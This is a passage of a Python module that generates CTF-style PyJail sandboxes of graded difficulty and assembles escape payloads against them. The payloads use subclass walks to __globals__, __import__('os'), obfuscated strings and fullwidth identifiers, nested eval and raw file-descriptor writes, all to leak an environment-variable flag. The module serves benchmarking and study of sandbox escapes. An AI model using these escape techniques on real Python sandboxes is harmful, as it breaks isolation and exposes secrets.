"""PyJail jails of known strength, and attacks that really break them.

A *jail* is Python source defining ``jail(user_input: str) -> str``; at run time the flag sits in
the environment variable ``FLAG`` of the sandboxed process, and an input *captures* when the flag
appears on stdout, on stderr or in the returned text. This module writes jails for simulated
setters and the inputs simulated attackers send, and everything it claims is checked against the
real sandbox by the tests.

The model
---------
Every jail this module writes is described by :class:`Rules`: what the input may contain (banned
words, banned characters, a length cap or a truncation, ASCII only, banned syntax-tree nodes,
banned names, no string literals), how it is run (``eval`` or ``exec``; all builtins, a few, or
none; which names of the jail's own scope it sees) and how the output is *censored* (``censor``,
0 to 4: nothing; the flag is cut out of the returned text; stdout is also captured and censored;
exceptions are also caught and censored; stderr is also captured and every exception, SystemExit
included, caught). The jail's source states these rules in module-level constants (``BANNED =
(...)``, ``MAX_LEN = 40``, ...) and in the plain shape of its code; :func:`read_jail` reads them
back with :mod:`ast`.

Jails with the same rules differ widely on the surface, since a setter's jails only count when
they are unique to an embedder that compares their tokens: the checks sit inline, in predicate or
reason functions, in a validator that returns or raises, in a guard class or in one condition;
every check, the run block and the censoring helper have several equivalent spellings; names,
messages and flavour text (docstring, themed refusals, a banner and a ``__main__`` block the
sandbox never runs) are drawn from pools. None of it changes what the jail does.

Attacks are built from :data:`TECHNIQUES`, an ordered repertoire of tricks, each with a
*sophistication* in [0, 1]. An input is assembled from a *style* (how strings are spelled, how
names and attributes are written, how ``os`` is reached, which part of the environment is taken,
which channel carries it out, and an optional wrapper: a nested eval of a built string, a second
stage past a truncation, a chain of class decorators); the tricks it ends up using give its
*level*, the sophistication of its most sophisticated trick. For a jail's rules the module
enumerates every style, keeps the inputs that pass the jail's filters (the same checks the jail's
code makes, mirrored here) and that can work at run time (the builtins, names and output channel
they need are there), and calls the least level among them the jail's **difficulty**. So the
difficulty is exactly the skill an attacker needs: an attacker who knows every technique up to
sophistication ``s`` (see :func:`probe`) breaks the jail if and only if ``s >= difficulty``.

Difficulty scale (technique → sophistication): direct 0, print 0.10, error_leak 0.15, short 0.20,
concat 0.25, getattr 0.35, chr 0.45, eval_string 0.50, stderr 0.55, unicode 0.60,
second_stage 0.70, subclasses 0.75, raw_fd 0.85, decorators 0.95. Each kind's five levels
(strength rounded to quarters) land at:

========== ===== ===== ===== ===== =====
kind        0     .25   .5    .75   1
========== ===== ===== ===== ===== =====
names       0     .25   .35   .60   .85
characters  0     .35   .45   .50   .75
length      0     .20   .55   .70   .85
ast         0     .35   .45   .75   .95
rewrite     .10   .15   .55   .85   .85
========== ===== ===== ===== ===== =====

Only source this module wrote is read (anything else gives ``None``); :func:`difficulty` falls
back to a visible-defence heuristic for other jails (see :func:`guess_difficulty`).
"""

from __future__ import annotations

import ast
import functools
import string
import textwrap
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, replace
from typing import Any

import numpy as np

__all__ = [
    "FLAWS", "KINDS", "TECHNIQUES", "JailInfo", "Rules", "Technique", "attack_inputs", "breaker",
    "difficulty", "flawed_jail", "guess_difficulty", "kind_of", "make_jail", "probe", "read_jail",
]

KINDS: tuple[str, ...] = ("names", "characters", "length", "ast", "rewrite")
"""The main defence of a jail: word filter, character filter, length cap, syntax-tree filter,
output rewriting."""

FLAWS: tuple[str, ...] = ("syntax", "no_jail", "unbreakable", "hangs")
"""Ways :func:`flawed_jail` gets a jail wrong."""

LEVELS = 5  # strength is rounded to one of this many levels per kind


# ---------------------------------------------------------------------------
# Techniques
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class Technique:
    """One attack trick; ``sophistication`` is on the scale of jail difficulty."""

    name: str
    sophistication: float
    summary: str


TECHNIQUES: tuple[Technique, ...] = (
    Technique("direct", 0.00, "return os.environ['FLAG'] as the value of the expression"),
    Technique("print", 0.10, "print the flag: stdout is not censored, only the return value"),
    Technique("error_leak", 0.15, "raise an uncaught exception whose message holds the flag"),
    Technique("short", 0.20, "compact payloads: dump the whole environment, use names the jail's "
                             "own scope already holds"),
    Technique("concat", 0.25, "split banned words across concatenated string literals"),
    Technique("getattr", 0.35, "getattr/vars with built names instead of attribute syntax, "
                               "__import__ fetched from the builtins module"),
    Technique("chr", 0.45, "strings from character codes (chr, bytes, hex escapes): no quotes, "
                           "no banned words"),
    Technique("eval_string", 0.50, "a nested eval/exec of a built string: the filters never see "
                                   "the real payload"),
    Technique("stderr", 0.55, "leak on standard error: sys.exit(flag), print(..., file=sys.stderr)"),
    Technique("unicode", 0.60, "fullwidth letters in identifiers: Python folds them (NFKC), ASCII "
                               "filters miss them"),
    Technique("second_stage", 0.70, "a first stage short enough to survive truncation that "
                                    "evaluates the rest of the jail's own input variable"),
    Technique("subclasses", 0.75, "walk the object graph (().__class__.__base__.__subclasses__(), "
                                  "__self__, __globals__) to reach os without builtins"),
    Technique("raw_fd", 0.85, "os.write to file descriptor 1/2 or sys.__stdout__: under any "
                              "Python-level redirection"),
    Technique("decorators", 0.95, "call functions without a Call node or parentheses: class "
                                  "decorators in exec mode"),
)
"""The attack repertoire, least sophisticated first."""

_BY_NAME: dict[str, Technique] = {t.name: t for t in TECHNIQUES}
_SOPH: dict[str, float] = {t.name: t.sophistication for t in TECHNIQUES}


def _technique(technique: Technique | str) -> Technique:
    if isinstance(technique, Technique):
        return technique
    try:
        return _BY_NAME[technique]
    except KeyError:
        raise ValueError(f"unknown technique {technique!r}; known: {sorted(_BY_NAME)}") from None


def _level(tricks: Iterable[str]) -> float:
    return max((_SOPH[t] for t in tricks), default=0.0)


# ---------------------------------------------------------------------------
# Rules and info
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class Rules:
    """What a jail checks and how it runs its input (see the module docstring)."""

    mode: str = "eval"  # "eval" or "exec"
    builtins: tuple[str, ...] | None = None  # None: all of them; otherwise only these names
    scope: tuple[str, ...] = ()  # names of the jail's own scope the input sees ("os", "user_input")
    banned_words: tuple[str, ...] = ()
    ignore_case: bool = False  # words are looked for in the lower-cased input
    banned_chars: str = ""
    max_len: int | None = None
    truncate: bool = False  # input cut to max_len instead of refused
    ascii_only: bool = False
    banned_nodes: tuple[str, ...] = ()  # ast node class names
    banned_names: tuple[str, ...] = ()  # ast.Name ids
    no_strings: bool = False  # no str constants in the tree
    censor: int = 0  # 0..4, see the module docstring

    @property
    def has_ast(self) -> bool:
        return bool(self.banned_nodes or self.banned_names or self.no_strings)


@dataclass(frozen=True)
class JailInfo:
    """What :func:`read_jail` recovers from a jail this module wrote."""

    kind: str
    difficulty: float  # least sophistication of a technique that breaks it
    technique: str  # that technique
    rules: Rules


def _kind_of_rules(rules: Rules) -> str:
    """The main defence: secondary defences are only ever added below it in this order."""
    if rules.has_ast:
        return "ast"
    if rules.max_len is not None:
        return "length"
    if rules.banned_chars:
        return "characters"
    if rules.banned_words:
        return "names"
    return "rewrite"


# Output channels and what each needs of the censor level (see Rules.censor).
_CHANNEL_MAX_CENSOR = {"return": 0, "print": 1, "error": 2, "stderr": 3, "rawfd": 4}


def _channel_ok(rules: Rules, channel: str) -> bool:
    if channel == "return" and rules.mode != "eval":
        return False
    return rules.censor <= _CHANNEL_MAX_CENSOR[channel]


def _has_builtin(rules: Rules, name: str) -> bool:
    if name == "__builtins__":  # the global name, a module only when every builtin is there
        return rules.builtins is None
    return rules.builtins is None or name in rules.builtins


def _static_ok(rules: Rules, text: str) -> bool:
    """The jail's own input checks, mirrored: does ``text`` get through to the evaluation?"""
    code = text
    if rules.max_len is not None:
        if rules.truncate:
            code = text[:rules.max_len]
        elif len(text) > rules.max_len:
            return False
    if rules.ascii_only and not code.isascii():
        return False
    probe_text = code.lower() if rules.ignore_case else code
    if any(word in probe_text for word in rules.banned_words):
        return False
    if any(ch in code for ch in rules.banned_chars):
        return False
    if rules.has_ast:  # other jails just run it: the builders only write valid syntax
        try:
            tree = ast.parse(code, mode=rules.mode)
        except (SyntaxError, ValueError):
            return False
        banned = tuple(getattr(ast, n) for n in rules.banned_nodes)
        for node in ast.walk(tree):
            if banned and isinstance(node, banned):
                return False
            if isinstance(node, ast.Name) and node.id in rules.banned_names:
                return False
            if rules.no_strings and isinstance(node, ast.Constant) and isinstance(node.value, str):
                return False
    return True


# ---------------------------------------------------------------------------
# Payload fragments and the builder
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class _Frag:
    """A piece of payload text with the tricks, builtins and scope names it relies on."""

    text: str
    tricks: frozenset[str] = frozenset()
    needs: frozenset[str] = frozenset()
    scope: frozenset[str] = frozenset()


_EMPTY: frozenset[str] = frozenset()


def _cat(*parts: _Frag | str, tricks: Iterable[str] = ()) -> _Frag:
    text: list[str] = []
    tr, nd, sc = frozenset(tricks), _EMPTY, _EMPTY
    for part in parts:
        if isinstance(part, str):
            text.append(part)
            continue
        text.append(part.text)
        if part.tricks:
            tr = tr | part.tricks
        if part.needs:
            nd = nd | part.needs
        if part.scope:
            sc = sc | part.scope
    return _Frag("".join(text), tr, nd, sc)


_FULLWIDTH = {c: chr(ord(c) + 0xFEE0) for c in string.ascii_letters + string.digits}
_FULLWIDTH["_"] = "\uff3f"  # folds to "_", but may not start an identifier

_STRINGS = ("lit", "concat", "chr", "hexesc")
_NAMES = ("plain", "unicode")
_ATTRS = ("dot", "getattr")
_ROUTES = ("import", "scope", "builtins", "graph")
_FORMS = ("item", "get", "dump")
_CHANNELS = ("return", "print", "error", "stderr", "rawfd")
_WRAPPERS = ("none", "eval_all", "stage2", "decorators")

_COMP_VARS = ("c", "k", "t", "x", "cls", "sub", "kl", "q")
_CLASS_VARS = ("a", "b", "m", "o", "z", "w", "Q", "box", "hold", "mod")
_SELF_FUNCS = ("abs", "len", "print", "repr", "min", "max", "sum", "hash", "chr")


@dataclass(frozen=True)
class _Style:
    wrapper: str = "none"
    strings: str = "lit"
    names: str = "plain"
    attrs: str = "dot"
    route: str = "import"
    form: str = "item"
    channel: str = "return"


class _Builder:
    """Builds one payload of a style for some rules.

    With ``rng`` None every choice is the first acceptable option (the canonical build); with an
    rng the options are shuffled. With ``force`` the style's tricks are applied even where the
    rules do not call for them (for attacks on jails whose rules are unknown).
    """

    def __init__(self, rules: Rules, style: _Style, rng: np.random.Generator | None,
                 force: bool = False, memo: dict | None = None) -> None:
        self.rules = rules
        self.style = style
        self.rng = rng
        self.force = force
        # canonical builds of many styles for the same rules share their common pieces
        self.memo = memo if rng is None and not force else None

    def _memo(self, key: tuple, make: Callable[[], Any]) -> Any:
        if self.memo is None:
            return make()
        if key not in self.memo:
            self.memo[key] = make()
        return self.memo[key]

    # -- choices ---------------------------------------------------------------------------
    def _order(self, options: Sequence[Any]) -> list[Any]:
        if self.rng is None or len(options) < 2:
            return list(options)
        return [options[i] for i in self.rng.permutation(len(options))]

    def _word_hits(self, text: str) -> list[tuple[int, int]]:
        probe_text = text.lower() if self.rules.ignore_case else text
        spans = []
        for word in self.rules.banned_words:
            start = probe_text.find(word)
            while start >= 0 and word:
                spans.append((start, start + len(word)))
                start = probe_text.find(word, start + 1)
        return spans

    def _clean(self, frag: _Frag) -> bool:
        text = frag.text
        if self.rules.ascii_only and not text.isascii():
            return False
        if any(ch in text for ch in self.rules.banned_chars) or self._word_hits(text):
            return False
        return (all(_has_builtin(self.rules, n) for n in frag.needs)
                and frag.scope <= set(self.rules.scope))

    def pick(self, options: Sequence[_Frag | Callable[[], _Frag]]) -> _Frag:
        """The first option (in the builder's order) that is clean; else the first one."""
        first = None
        for option in self._order(options):
            frag = option() if callable(option) else option
            if self._clean(frag):
                return frag
            first = first or frag
        return first

    def _coin(self, p: float = 0.5) -> bool:
        return self.rng is not None and bool(self.rng.random() < p)

    # -- names ----------------------------------------------------------------------------
    def ident(self, name: str) -> _Frag:
        return self._memo(("ident", self.style.names, name), lambda: self._ident(name))

    def _ident(self, name: str) -> _Frag:
        if self.style.names != "unicode":
            return _Frag(name)
        chars = list(name)
        eligible = [i for i, c in enumerate(name) if c in _FULLWIDTH and not (i == 0 and c == "_")]
        if self.force and eligible:
            k = max(1, len(eligible) // 2)
            chosen = self.rng.choice(eligible, size=k, replace=False) if self.rng is not None \
                else eligible[:k]
            for i in chosen:
                chars[int(i)] = _FULLWIDTH[chars[int(i)]]
        for _ in range(len(name)):
            text = "".join(chars)
            bad = [i for i, c in enumerate(text) if c in self.rules.banned_chars]
            for lo, hi in self._word_hits(text):
                bad.extend(range(lo, hi))
            spots = [i for i in dict.fromkeys(bad) if i in eligible and chars[i] == name[i]]
            if not spots:
                break
            i = spots[int(self.rng.integers(len(spots)))] if self.rng is not None else spots[0]
            chars[i] = _FULLWIDTH[chars[i]]
        text = "".join(chars)
        return _Frag(text, frozenset({"unicode"}) if text != name else frozenset())

    def name(self, builtin: str) -> _Frag:
        frag = self.ident(builtin)
        return _Frag(frag.text, frag.tricks, frag.needs | {builtin}, frag.scope)

    # -- strings --------------------------------------------------------------------------
    def _quotes(self) -> list[str]:
        quotes = [q for q in self._order(("'", '"')) if q not in self.rules.banned_chars]
        return quotes or ["'"]

    @staticmethod
    def _escape(text: str, quote: str) -> str:
        return text.replace("\\", "\\\\").replace(quote, "\\" + quote).replace("\n", "\\n")

    def lit(self, text: str) -> _Frag:
        quotes = self._quotes()
        quote = next((q for q in quotes if q not in text), quotes[0])
        return _Frag(quote + self._escape(text, quote) + quote)

    def _chunks(self, text: str) -> list[str]:
        chunks, cur = [], ""
        for ch in text:
            if cur and self._word_hits(cur + ch):
                chunks.append(cur)
                cur = ch
            else:
                cur += ch
        chunks.append(cur)
        if (self.force or self._coin(0.3)) and len(chunks) == 1 and len(text) > 1:
            cut = int(self.rng.integers(1, len(text))) if self.rng is not None else len(text) // 2
            chunks = [text[:cut], text[cut:]]
        return chunks

    def s(self, text: str) -> _Frag:
        """A string expression whose value is ``text``, in the style's spelling."""
        return self._memo(("s", self.style.strings, self.style.names, text), lambda: self._s(text))

    def _s(self, text: str) -> _Frag:
        kind = self.style.strings
        if kind == "lit" or not text:
            return self.lit(text)
        if kind == "concat":
            chunks = self._chunks(text)
            if len(chunks) == 1:
                return self.lit(text)
            quotes = self._quotes()
            quote = next((q for q in quotes if not any(q in c for c in chunks)), quotes[0])
            parts = [quote + self._escape(c, quote) + quote for c in chunks]
            joins = [j for j in self._order(("+", "")) if j not in self.rules.banned_chars] or ["+"]
            return _Frag(joins[0].join(parts), frozenset({"concat"}))
        if kind == "chr":
            fn = self.name("chr")
            hexa = self._coin(0.3)
            codes = [f"{fn.text}({ord(c):#x})" if hexa else f"{fn.text}({ord(c)})" for c in text]
            return replace(fn, text="+".join(codes), tricks=fn.tricks | {"chr"})
        # hex escapes: escape a character of every banned word and every banned character
        marks = {i for i, c in enumerate(text) if c in self.rules.banned_chars or c == "\n"}
        for lo, hi in self._word_hits(text):
            if not marks & set(range(lo, hi)):
                marks.add(int(self.rng.integers(lo, hi)) if self.rng is not None else lo)
        if self.force and not marks and text:
            marks.add(int(self.rng.integers(len(text))) if self.rng is not None else 0)
        quotes = self._quotes()
        quote = quotes[0]
        body = []
        for i, c in enumerate(text):
            if i in marks or c == quote:
                body.append(f"\\x{ord(c):02x}" if ord(c) < 256 else f"\\u{ord(c):04x}")
            elif c == "\\":
                body.append("\\\\")
            else:
                body.append(c)
        return _Frag(quote + "".join(body) + quote, frozenset({"chr"}) if marks else frozenset())

    # -- expressions ----------------------------------------------------------------------
    @staticmethod
    def call(fn: _Frag | str, *args: _Frag | str) -> _Frag:
        parts: list[_Frag | str] = [fn, "("]
        for i, arg in enumerate(args):
            parts.extend([",", arg] if i else [arg])
        parts.append(")")
        return _cat(*parts)

    def getattr_(self, obj: _Frag | str, attr: str) -> _Frag:
        return self.call(self.name("getattr"), obj, self.s(attr))

    def attr(self, obj: _Frag | str, attr: str) -> _Frag:
        if self.style.attrs == "getattr":
            return _cat(self.getattr_(obj, attr), tricks={"getattr"})
        return _cat(obj, ".", self.ident(attr))

    def item(self, obj: _Frag | str, key: str) -> _Frag:
        return _cat(obj, "[", self.s(key), "]")

    # -- the pieces of a payload --------------------------------------------------------------
    def os_route(self) -> tuple[_Frag, bool] | None:
        """An expression for the os module (False) or for os's globals dict (True)."""
        st = self.style
        return self._memo(("os", st.strings, st.names, st.attrs, st.route), self._os_route)

    def _os_route(self) -> tuple[_Frag, bool] | None:
        route = self.style.route
        if route == "import":
            return self.call(self.name("__import__"), self.s("os")), False
        if route == "scope":
            if "os" not in self.rules.scope:
                return None
            return _cat(replace(self.ident("os"), scope=frozenset({"os"})), tricks={"short"}), False
        if route == "builtins":
            def via_global() -> _Frag:
                glob = self.ident("__builtins__")
                glob = replace(glob, needs=frozenset({"__builtins__"}))
                return self.call(self.getattr_(glob, "__import__"), self.s("os"))

            def via_vars() -> _Frag:
                glob = replace(self.ident("__builtins__"), needs=frozenset({"__builtins__"}))
                return self.call(self.item(self.call(self.name("vars"), glob), "__import__"),
                                 self.s("os"))

            def via_self(fn: str) -> Callable[[], _Frag]:
                return lambda: self.call(self.getattr_(self.getattr_(self.name(fn), "__self__"),
                                                       "__import__"), self.s("os"))

            frag = self.pick([via_global, via_vars] + [via_self(f) for f in _SELF_FUNCS[:4]])
            return _cat(frag, tricks={"getattr"}), False
        # the object graph: os's globals through a subclass of object, or a builtin's __self__
        def walk() -> _Frag:
            obj = self.pick([_Frag("()"), _Frag("[]"), _Frag("{}"), lambda: self.lit("")])
            cls = self.attr(obj, "__class__")
            base = self.pick([lambda: self.attr(cls, "__base__"),
                              lambda: _cat(self.attr(cls, "__mro__"), "[-1]"),
                              lambda: _cat(self.attr(cls, "__bases__"), "[0]")])
            subs = self.call(self.attr(base, "__subclasses__"))
            var = self._order(_COMP_VARS)[0]
            cond = _cat(self.attr(var, "__name__"), "==", self.s("_wrap_close"))
            found = _cat("[", var, " for ", var, " in ", subs, " if ", cond, "][0]")
            return self.attr(self.attr(found, "__init__"), "__globals__")

        def self_of(fn: str) -> Callable[[], _Frag]:
            return lambda: self.call(self.attr(self.attr(self.name(fn), "__self__"), "__import__"),
                                     self.s("os"))

        walked = walk()
        others = [self_of(f) for f in (self._order(_SELF_FUNCS) if self.rng is not None
                                       else _SELF_FUNCS)]
        # the walk needs no builtin at all: the canonical choice, and half the variants
        if (self.rng is None or self._coin(0.5)) and self._clean(walked):
            return _cat(walked, tricks={"subclasses"}), True
        other = self.pick(others)
        if self._clean(other) or not self._clean(walked):
            return _cat(other, tricks={"subclasses"}), False
        return _cat(walked, tricks={"subclasses"}), True

    def member(self, os_expr: _Frag, is_dict: bool, name: str) -> _Frag:
        return self.item(os_expr, name) if is_dict else self.attr(os_expr, name)

    def flag(self, os_expr: _Frag, is_dict: bool) -> _Frag:
        env = self.member(os_expr, is_dict, "environ")
        form = self.style.form
        if form == "dump":
            return _cat(env, tricks={"short"})
        if form == "item":
            return self.item(env, "FLAG")
        return self.pick([lambda: self.call(self.attr(env, "get"), self.s("FLAG")),
                          lambda: self.call(self.member(os_expr, is_dict, "getenv"), self.s("FLAG"))])

    def sys_module(self, os_expr: _Frag, is_dict: bool) -> _Frag:
        return self.pick([lambda: self.member(os_expr, is_dict, "sys"),
                          lambda: self.call(self.name("__import__"), self.s("sys"))])

    def channel(self, value: _Frag, os_expr: _Frag, is_dict: bool) -> _Frag | None:
        ch, dump = self.style.channel, self.style.form == "dump"
        if ch == "return":
            return value
        if ch == "print":
            return _cat(self.call(self.name("print"), value), tricks={"print"})
        if ch == "error":
            if dump:
                return None
            frag = self.pick([lambda: self.call(self.name("int"), value),
                              lambda: _cat("{}[", value, "]")])
            return _cat(frag, tricks={"error_leak"})
        if ch == "stderr":
            def to_stderr() -> _Frag:
                stream = self.attr(self.sys_module(os_expr, is_dict), "stderr")
                return _cat(self.name("print"), "(", value, ",", self.ident("file"), "=", stream, ")")

            frag = self.pick([lambda: self.call(self.attr(self.sys_module(os_expr, is_dict), "exit"),
                                                value), to_stderr])
            return _cat(frag, tricks={"stderr"})

        def write_fd() -> _Frag:
            text = self.call(self.name("str"), value) if dump else value
            data = self.call(self.attr(text, "encode"))
            fd = self._order(("1", "2"))[0]
            return self.call(self.member(os_expr, is_dict, "write"), fd, data)

        def original_stdout() -> _Frag:
            stream = self.attr(self.sys_module(os_expr, is_dict), "__stdout__")
            return _cat(self.name("print"), "(", value, ",", self.ident("file"), "=", stream, ")")

        return _cat(self.pick([write_fd, original_stdout]), tricks={"raw_fd"})

    def plain_payload(self) -> _Frag | None:
        found = self.os_route()
        if found is None:
            return None
        os_expr, is_dict = found
        return self.channel(self.flag(os_expr, is_dict), os_expr, is_dict)

    def decorated(self) -> _Frag | None:
        """Class decorators call functions without Call nodes (exec mode)."""
        names = self._order(_CLASS_VARS)
        lines: list[_Frag | str] = []
        if self.style.route == "scope" and "os" in self.rules.scope:
            mod = _cat(replace(self.ident("os"), scope=frozenset({"os"})), tricks={"short"})
        elif self.style.route == "import":
            arg = self.pick([_Frag(v) for v in ("_", "x", "c", "k")])
            mod = _Frag(names[0])
            lines += ["@", self.name("__import__"), "\n@lambda ", arg, ":", self.s("os"),
                      f"\nclass {names[0]}:pass\n"]
        else:
            return None
        env = self.attr(mod, "environ")
        dump = self.style.form == "dump"
        if self.style.form == "get":
            return None
        value = _cat(env, tricks={"short"}) if dump else self.item(env, "FLAG")
        ch = self.style.channel
        if ch == "print":
            out = _cat(self.name("print"), tricks={"print"})
        elif ch == "error" and not dump:
            out = _cat(self.name("int"), tricks={"error_leak"})
        elif ch == "stderr":
            out = _cat(self.attr(self.attr(mod, "sys"), "exit"), tricks={"stderr"})
        elif ch == "rawfd" and not dump:
            out = _cat(self.attr(self.attr(self.attr(mod, "sys"), "__stdout__"), "write"),
                       tricks={"raw_fd"})
        else:
            return None
        arg = self.pick([_Frag(v) for v in ("_", "x", "c", "k")])
        lines += ["@", out, "\n@lambda ", arg, ":", value, f"\nclass {names[1]}:pass\n"]
        return _cat(*lines, tricks={"decorators"})


# ---------------------------------------------------------------------------
# Enumerating the attacks on some rules
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class _Solution:
    style: _Style
    text: str
    tricks: frozenset[str]
    level: float
    needs: frozenset[str] = frozenset()
    scope: frozenset[str] = frozenset()


def _styles(rules: Rules, canonical: bool = False) -> list[_Style]:
    """Every style that can work at run time under ``rules`` (before any filter).

    ``canonical``: leave out the spellings that change nothing in a canonical build (split
    strings, escapes and fullwidth letters are only used there to get round a filter).
    """
    styles = []
    channels = [c for c in _CHANNELS if _channel_ok(rules, c)]
    routes = [r for r in _ROUTES if r != "scope" or "os" in rules.scope]
    spellings = _STRINGS
    name_styles = _NAMES
    if canonical and not rules.banned_words and not rules.banned_chars:
        spellings, name_styles = ("lit", "chr"), ("plain",)
    for strings in spellings:
        for names in name_styles:
            for attrs in _ATTRS:
                for route in routes:
                    for form in _FORMS:
                        for channel in channels:
                            styles.append(_Style("none", strings, names, attrs, route, form, channel))
            styles.append(_Style("eval_all", strings, names))
            if rules.mode == "exec":
                for route in ("import", "scope"):
                    if route in routes:
                        for form in ("item", "dump"):
                            for channel in channels:
                                styles.append(_Style("decorators", strings, names, "dot", route,
                                                     form, channel))
    if rules.truncate and "user_input" in rules.scope:
        styles += [_Style("stage2", "lit", names) for names in name_styles]
    return styles


def _runtime_only(rules: Rules) -> Rules:
    return replace(rules, banned_words=(), ignore_case=False, banned_chars="", max_len=None,
                   truncate=False, ascii_only=False, banned_nodes=(), banned_names=(),
                   no_strings=False)


@functools.lru_cache(maxsize=256)
def _inner_choices(rules: Rules) -> tuple[_Solution, ...]:
    """Payloads for a nested evaluation: no filter applies, only what is there at run time.

    The least sophisticated unwrapped payloads that can work under ``rules``' run-time
    conditions (builtins, scope, censoring).
    """
    bare = _runtime_only(rules)
    sols = {}
    memo: dict = {}
    for style in _styles(bare, canonical=True):
        if style.wrapper != "none":
            continue
        frag = _build(bare, style, None, memo=memo)
        if _valid(bare, frag) and frag.text not in sols:
            sols[frag.text] = _Solution(style, frag.text, frag.tricks, _level(frag.tricks),
                                        frag.needs, frag.scope)
    best = min((s.level for s in sols.values()), default=None)
    least = [s for s in sols.values() if s.level == best]
    return tuple(sorted(least, key=lambda s: (len(s.tricks), len(s.text), s.text))[:6])


def _build(rules: Rules, style: _Style, rng: np.random.Generator | None,
           force: bool = False, memo: dict | None = None) -> _Frag | None:
    b = _Builder(rules, style, rng, force, memo)
    if style.wrapper == "none":
        return b.plain_payload()
    if style.wrapper == "decorators":
        return b.decorated()
    inners = _inner_choices(rules)
    if not inners:
        return None
    inner = inners[int(rng.integers(len(inners)))] if rng is not None else inners[0]
    if inner.style.channel == "return":
        evaluator = b.name("eval")
    else:
        evaluator = b.pick([lambda: b.name("exec"), lambda: b.name("eval")])
    carried = _Frag("", inner.tricks, inner.needs, inner.scope)  # what the inner part relies on
    if style.wrapper == "eval_all":
        def spelled() -> _Frag:
            return b.s(inner.text)

        def as_bytes() -> _Frag:
            codes = ",".join(str(c) for c in inner.text.encode())
            return _cat(b.name("bytes"), "((", codes, ",))", tricks={"chr"})

        source = b.pick([spelled, as_bytes] if style.strings == "chr" else [spelled])
        return _cat(evaluator, "(", source, ")", carried, tricks={"eval_string"})
    # a second stage: the truncated head evaluates the rest of the jail's input variable
    limit = rules.max_len if rules.max_len is not None else 32
    head = _cat(evaluator, "(", replace(b.ident("user_input"),
                                                scope=frozenset({"user_input"})),
                f"[{limit}:])")
    if len(head.text) > limit:
        return None
    head = replace(head, text=head.text.ljust(limit))
    return _cat(head, inner.text, carried, tricks={"second_stage"})


def _valid(rules: Rules, frag: _Frag | None) -> bool:
    if frag is None:
        return False
    if rules.truncate and rules.max_len is not None and len(frag.text) > rules.max_len \
            and "second_stage" not in frag.tricks:
        return False  # cut short: only a second stage survives the truncation
    if not all(_has_builtin(rules, n) for n in frag.needs):
        return False
    if not frag.scope <= set(rules.scope):
        return False
    return _static_ok(rules, frag.text)


@functools.lru_cache(maxsize=4096)
def _solutions(rules: Rules) -> tuple[_Solution, ...]:
    """Every canonical payload that breaks a jail with these rules, least level first."""
    found: dict[str, _Solution] = {}
    memo: dict = {}
    for style in _styles(rules, canonical=True):
        frag = _build(rules, style, None, memo=memo)
        if _valid(rules, frag) and frag.text not in found:
            found[frag.text] = _Solution(style, frag.text, frag.tricks, _level(frag.tricks),
                                         frag.needs, frag.scope)
    return tuple(sorted(found.values(), key=lambda s: s.level))


def _variant(rules: Rules, sol: _Solution, rng: np.random.Generator, max_level: float,
             tries: int = 4) -> str:
    """A surface variant of a solution (still valid, still within ``max_level``)."""
    for _ in range(tries):
        frag = _build(rules, sol.style, rng)
        if _valid(rules, frag) and _level(frag.tricks) <= max_level:
            return frag.text
    return sol.text


# ---------------------------------------------------------------------------
# Attacks
# ---------------------------------------------------------------------------

_GENERIC_LIMITS = (24, 32, 40)


def _features(tricks: frozenset[str], technique: str) -> bool:
    return technique in tricks or (technique == "direct" and not tricks)


_FORCED = {
    "strings": {"concat": "concat", "chr": "chr", "hexesc": "chr"},
    "names": {"unicode": "unicode"},
    "attrs": {"getattr": "getattr"},
    "route": {"scope": "short", "builtins": "getattr", "graph": "subclasses"},
    "form": {"dump": "short"},
    "channel": {"print": "print", "error": "error_leak", "stderr": "stderr", "rawfd": "raw_fd"},
    "wrapper": {"eval_all": "eval_string", "stage2": "second_stage", "decorators": "decorators"},
}


def _forced_tricks(style: _Style) -> frozenset[str]:
    """The tricks a forced build of ``style`` uses (what each part of the style stands for)."""
    parts = {"wrapper": style.wrapper, "strings": style.strings, "names": style.names}
    if style.wrapper in ("none", "decorators"):
        parts.update(attrs=style.attrs, route=style.route, form=style.form, channel=style.channel)
    if style.wrapper == "stage2":
        parts.pop("strings")
    return frozenset(_FORCED[k][v] for k, v in parts.items() if v in _FORCED[k])


@functools.lru_cache(maxsize=64)
def _generic_styles(technique: str, limit: int) -> tuple[tuple[_Style, Rules, int], ...]:
    """Styles that feature ``technique`` on a jail that filters nothing, for jails whose rules
    are unknown; with the number of other tricks each one brings along."""
    if technique == "second_stage":
        rules_list = [Rules(truncate=True, max_len=limit, scope=("user_input",))]
    else:
        rules_list = [Rules(), Rules(mode="exec")]
        if technique == "short":
            rules_list.append(Rules(scope=("os",)))
    soph = _SOPH[technique]
    out = {}
    for rules in rules_list:
        for style in _styles(rules):
            if rules.mode == "exec" and style.wrapper != "decorators":
                continue  # the same as in eval mode
            tricks = _forced_tricks(style)
            if _features(tricks, technique) and _level(tricks) <= soph:
                out.setdefault((style, rules), len(tricks - {technique}))
    return tuple((style, rules, extra) for (style, rules), extra in out.items())


def _generic_probe(tech: Technique, rng: np.random.Generator) -> str:
    limit = int(rng.choice(_GENERIC_LIMITS)) if tech.name == "second_stage" else 0
    options = _generic_styles(tech.name, limit)
    weights = np.array([1.0 / (1 + extra) ** 2 for _, _, extra in options])
    for _ in range(8):
        style, rules, _ = options[int(rng.choice(len(options), p=weights / weights.sum()))]
        frag = _build(rules, style, rng, force=True)
        if frag is not None and _valid(rules, frag) and _features(frag.tricks, tech.name) \
                and _level(frag.tricks) <= tech.sophistication + 1e-9:
            return frag.text
    return _build(Rules(), _Style(channel="print"), None).text  # pragma: no cover - a fallback


def _one_of_simplest(sols: Sequence[_Solution], rng: np.random.Generator,
                     k: int = 6) -> _Solution:
    """One of the ``k`` solutions with the fewest tricks and the shortest text."""
    ranked = sorted(sols, key=lambda s: (len(s.tricks), len(s.text), s.text))[:k]
    return ranked[int(rng.integers(len(ranked)))]


def probe(technique: Technique | str, info: JailInfo | None, rng: np.random.Generator) -> str:
    """An input built with ``technique`` (and any less sophisticated trick it needs).

    With ``info`` the input is fitted to the jail's rules, using only tricks up to the
    technique's sophistication: it captures exactly when that sophistication reaches the jail's
    difficulty. When the tricks do not suffice (or without ``info``) it is the technique's
    generic form, written for a jail that filters nothing.
    """
    tech = _technique(technique)
    if info is not None:
